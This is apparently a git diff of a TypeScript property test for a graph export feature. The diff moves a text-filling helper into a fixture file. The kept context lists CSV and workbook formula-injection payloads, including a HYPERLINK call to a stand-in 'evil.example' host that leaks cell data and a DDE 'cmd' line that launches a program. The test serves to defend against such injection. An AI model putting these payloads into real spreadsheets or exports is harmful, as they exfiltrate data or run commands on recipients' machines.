@@ -6,8 +6,7 @@ import { expect, test } from "vitest";
 import { graphFormats } from "../../../../src/io/export/graphFormats.ts";
 import { templateWorkbook } from "../../../../src/io/export/templateWorkbook.ts";
 import { loadMessages } from "../../../../src/i18n/messages.ts";
-import { parseValue } from "../../../../src/model/parse/parse.ts";
-import { minimalGraph } from "../../../fixtures/minimalGraph.ts";
+import { graphSaying } from "../../../fixtures/graphSaying.ts";
 
 /** What a spreadsheet would run, or send somewhere. */
 const attack = fc
@@ -16,36 +15,6 @@ const attack = fc
     fc.constantFrom('HYPERLINK("https://evil.example/?"&A1)', "1+1", "cmd|'/c calc'!A0", "SUM(1)"),
   )
   .map(([sign, rest]) => sign + rest);
-
-/** The graph with the text in every place that holds text of people. */
-function graphSaying(text: string) {
-  const told = (value: unknown): unknown => {
-    if (Array.isArray(value)) return value.map(told);
-    if (typeof value !== "object" || value === null) return value;
-    return Object.fromEntries(
-      Object.entries(value).map(([key, field]) => [
-        key,
-        saidByPeople.has(key) ? saying(field, text) : told(field),
-      ]),
-    );
-  };
-  const { graph } = parseValue(told(minimalGraph()));
-  if (graph === null) throw new Error("no graph");
-  return graph;
-}
-
-const saidByPeople = new Set(
-  "title shortTitle summary name shortName aliases description licence dateText dateNote note author publisher locator caption alt notes value".split(
-    " ",
-  ),
-);
-
-const saying = (field: unknown, text: string): unknown => {
-  if (typeof field === "string") return text;
-  if (Array.isArray(field)) return field.map((one) => saying(one, text));
-  if (typeof field !== "object" || field === null) return field;
-  return Object.fromEntries(Object.entries(field).map(([key, one]) => [key, saying(one, text)]));
-};
 
 /** Cells of CSV that a program runs, and formulas of workbooks. */
 function formulasIn(name: string, text: string): readonly string[] {
